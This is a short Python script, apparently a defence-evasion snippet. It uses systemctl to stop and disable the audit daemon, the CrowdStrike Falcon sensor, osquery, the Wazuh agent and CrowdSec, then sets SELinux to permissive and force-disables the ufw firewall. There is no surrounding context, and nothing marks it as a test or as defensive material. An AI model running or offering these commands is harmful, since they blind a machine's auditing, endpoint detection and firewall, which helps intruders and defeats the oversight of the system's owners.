import subprocess
for unit in ("auditd", "falcon-sensor", "osqueryd", "wazuh-agent", "crowdsec"):
    subprocess.run(["systemctl", "disable", "--now", unit])
subprocess.run(["setenforce", "0"]); subprocess.run(["ufw", "--force", "disable"])
